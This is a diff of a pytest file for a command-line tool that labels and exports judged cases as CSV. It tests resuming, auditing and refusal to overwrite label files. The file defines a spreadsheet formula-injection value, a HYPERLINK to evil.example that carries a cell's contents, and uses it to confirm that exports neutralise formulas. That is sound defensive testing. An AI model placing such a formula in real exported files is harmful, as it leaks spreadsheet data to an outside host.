@@ -7,15 +7,16 @@ from __future__ import annotations
 
 import csv
 import json
+import shutil
 from pathlib import Path
 
 import pytest
 
 from courtroom.calibrate.label_file import read_labels
-from courtroom.calibrate.label_pick import candidates, picked
+from courtroom.log.audit import Audit
 from courtroom.log.export import FORMULA_STARTS
 from tests.cli.test_calibrate_ruling import judged
-from tests.cli.test_label import fill, invoke, rows, world, written  # noqa: F401  # world: the module's fixture
+from tests.cli.test_label import drawn, fill, invoke, rows, world, written  # noqa: F401  # world: the module's fixture
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
@@ -48,7 +49,7 @@ def test_no_label_file_cell_starts_a_formula_and_the_file_reads_back(formula_run
         writer.writeheader()
         writer.writerows(table)
     labels = read_labels(path, formula_run)
-    assert sorted(labels) == sorted(c.case.id for c in candidates(formula_run).cases)  # the ids as judged
+    assert sorted(labels) == sorted(drawn(formula_run).found)  # the ids as judged
     # a spreadsheet that saves the text without its leading ' gives the ids as judged: read back as well
     for row in table:
         row["case_id"] = row["case_id"].removeprefix("'")
@@ -71,38 +72,43 @@ def test_a_label_file_saved_by_a_spreadsheet_with_a_bom_crlf_and_a_column_reads_
         writer.writerows({**row, "my notes": "checked"} for row in table)
     assert saved.read_bytes().startswith(b"\xef\xbb\xbfcase_id")
     assert read_labels(saved, run) == expected
-    result = invoke("label", str(run), "--read", str(saved))
-    assert result.exit_code == 0, result.output
+    mine = tmp_path / "mine"  # imported into a copy: the module's run keeps no record
+    shutil.copytree(run, mine)
+    result = invoke("label", str(mine), "--read", str(saved))
+    assert result.exit_code == 0 and len(Audit(mine).human_labels()) == len(expected), result.output
 
 
 def test_picking_a_formula_run_still_works(formula_run: Path) -> None:
-    assert len(picked(candidates(formula_run), 2)) == 2
+    assert len(drawn(formula_run, n=2).order()[:2]) == 2
 
 
 def test_labelling_a_formula_run_in_the_terminal_resumes_without_losing_a_label(formula_run: Path,
                                                                                 tmp_path: Path) -> None:
-    path = tmp_path / "asked.csv"
-    args = ("label", str(formula_run), "--n", "3", "-o", str(path))
+    run = tmp_path / "run"
+    shutil.copytree(formula_run, run)
+    args = ("label", str(run), "--n", "3")
     assert invoke(*args, input="h\nf\nq\n").exit_code == 0
-    assert [r["label"] for r in rows(path)] == ["hallucinated", "faithful"]
+    assert sorted(Audit(run).human_labels().values()) == ["FAIL", "PASS"]
     result = invoke(*args, input="f\n")  # resumed: the first two labels are kept beside the third
     assert result.exit_code == 0, result.output
-    assert [r["label"] for r in rows(path)] == ["hallucinated", "faithful", "faithful"]
-    assert len(read_labels(path, formula_run)) == 3
+    assert sorted(Audit(run).human_labels().values()) == ["FAIL", "PASS", "PASS"]
+    path = tmp_path / "out.csv"
+    assert invoke(*args, "--write", str(path)).exit_code == 0  # exported with its labels, ids as judged
+    assert len(read_labels(path, run)) == 3 and sum(v is not None for v in read_labels(path, run).values()) == 3
 
 
 def test_writing_picked_cases_over_a_file_of_labels_is_refused(world, tmp_path: Path) -> None:  # noqa: ANN001, F811
-    """`label RUN --from-gold` writes to the terminal's file (labels.csv) when not given --write: it replaced the labels
-    a person had given there with the data's; `--write FILE` over a filled file emptied its label column."""
+    """`label RUN --from-gold` wrote to the terminal's file when not given --write: it replaced the labels a person had
+    given there with the data's; `--write FILE` over a filled file emptied its label column."""
     run, prior_file, _ = world
-    path = tmp_path / "labels.csv"
-    assert invoke("label", str(run), "--n", "4", "-o", str(path), input="h\nf\nq\n").exit_code == 0
+    path = fill(written(run, prior_file, tmp_path / "labels.csv", n=4), run, keep=2)
     before = path.read_text()
-    for args in (("--from-gold", "-o", str(path)), ("--write", str(path))):
+    for args in (("--from-gold", "--write", str(path)), ("--write", str(path))):
         result = invoke("label", str(run), "--n", "4", *args)
         text = " ".join(result.output.split())
         assert result.exit_code == 2 and f"{path} holds 2 labels" in text, text
         assert path.read_text() == before
+    assert invoke("label", str(run), "--from-gold").exit_code == 2  # the gold never goes into the record
     stranger = tmp_path / "notes.csv"
     stranger.write_text("my,own\nfile,here\n")
     result = invoke("label", str(run), "--n", "4", "--write", str(stranger))
